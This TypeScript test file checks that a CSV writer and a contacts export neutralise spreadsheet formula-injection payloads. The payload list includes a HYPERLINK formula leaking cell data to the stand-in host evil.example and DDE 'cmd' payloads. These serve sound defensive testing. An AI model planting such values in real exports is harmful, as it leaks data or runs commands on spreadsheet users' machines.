import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { contactsToCsv } from "#app/modules/contacts/contacts-io.server.ts";
import type { ExportContact } from "#app/modules/contacts/contacts.server.ts";
import { readCsv } from "./csv-import.server.ts";
import { toCsv } from "./csv.ts";

// OWASP's CSV injection payloads, plus the ones from issue 17.
const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
  "＝1+1",
];

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;

describe("the shared CSV writer", () => {
  test.each(payloads)("neutralises %j", (payload) => {
    const [header, row] = cellsOf(toCsv(["value"], [{ value: payload }]));
    expect(header).toEqual(["value"]);
    expect(row![0]).toBe(`'${payload}`);
  });

  test("leaves ordinary text and numbers alone, writes CRLF and a BOM", () => {
    const csv = toCsv(["a", "b", "c"], [{ a: "Kristiina Laur", b: 42, c: "a, b" }]);
    expect(csv.startsWith("\uFEFFa,b,c\r\n")).toBe(true);
    expect(cellsOf(csv)[1]).toEqual(["Kristiina Laur", "42", "a, b"]);
  });
});

describe("the contacts export", () => {
  const contact = (over: Partial<ExportContact>) =>
    ({
      personName: "",
      organisationName: "",
      linkedOrg: null,
      country: null,
      email: null,
      phone: null,
      role: null,
      stage: "MET",
      owner: null,
      tags: [],
      nextStep: null,
      nextStepDue: null,
      source: "OTHER",
      ...over,
    }) as ExportContact;

  test("no cell of the file starts with a formula character", () => {
    const csv = contactsToCsv(payloads.map((p) => contact({ personName: p, organisationName: p, role: p, nextStep: p, tags: [p] })));
    for (const row of cellsOf(csv).slice(1)) {
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n＝]/);
    }
  });

  test("reads its own export back as typed (a phone number keeps its +)", () => {
    const csv = contactsToCsv([contact({ personName: "Ann", phone: "+49 30 1234567", nextStep: "=1+1" })]);
    expect(csv).toContain("'+49 30 1234567");
    const { records } = readCsv(csv);
    expect(records[0]!.r.phone).toBe("+49 30 1234567");
    expect(records[0]!.r.next_step).toBe("=1+1");
  });
});
